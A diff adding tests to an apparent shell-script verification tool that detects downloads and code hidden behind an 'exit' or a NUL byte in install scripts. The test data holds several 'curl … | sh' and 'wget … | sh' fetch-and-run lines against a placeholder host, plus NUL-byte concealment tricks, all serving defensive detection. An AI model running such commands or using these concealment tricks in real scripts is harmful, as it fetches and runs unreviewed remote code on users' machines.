@@ -11,7 +11,7 @@ from verifychain.core.pin import Grade, Malformed, Pin
 from verifychain.core.source import Span
 from verifychain.facts.broken import Broken
 from verifychain.facts.bypass import Bypass
-from verifychain.facts.download import Role
+from verifychain.facts.download import Download, Role
 from verifychain.facts.install import Install
 
 
@@ -208,3 +208,33 @@ def test_a_nul_byte_is_no_way_to_hide() -> None:
         assert text[found.span.start : found.span.end] == b"\0"
         assert found.message.startswith("a NUL byte: shells pass over it")
     assert not [fact for fact in facts(b"curl -s https://h.example/a | sh\n") if isinstance(fact, Broken)]
+
+
+TAIL = b"__ARCHIVE__\ncurl -s https://h.example/b | sh\n\x1f\x8b\0\0)\nwget -qO- h.example|sh\n"
+
+
+@pytest.mark.parametrize("end", [b"exit", b"exit 0\n", b'exit "$?" ;\n', b"if a; then\nexit 1\nfi\nexit $?\n"])
+def test_the_script_in_front_of_an_archive_is_judged(end: bytes) -> None:
+    text = b"#!/bin/sh\ncurl -s https://h.example/a | sh\n" + end.rstrip(b"\n") + b"\n" + TAIL
+    one, *rest = facts(text)
+    assert isinstance(one, Broken)
+    assert one.message.startswith("what stands behind the `exit`")
+    assert [fact.url for fact in rest if isinstance(fact, Download)] == ["https://h.example/a"]
+    assert not [fact for fact in rest if isinstance(fact, Broken)]
+
+
+@pytest.mark.parametrize(
+    "end",
+    [
+        b"if a; then\nexit 0\n",
+        b"cat <<E\nexit 0\n",
+        b"exit() { :; }\nexit 0\n",
+        b"exit 0 || b\n",
+        b"alias exit=:\nexit\n",
+    ],
+)
+def test_what_may_go_on_behind_an_exit_is_read_on(end: bytes) -> None:
+    one = next(
+        fact for fact in facts(b"#!/bin/sh\n" + end + b"c\0url https://h.example/b\n") if isinstance(fact, Broken)
+    )
+    assert one.message.startswith("a NUL byte")
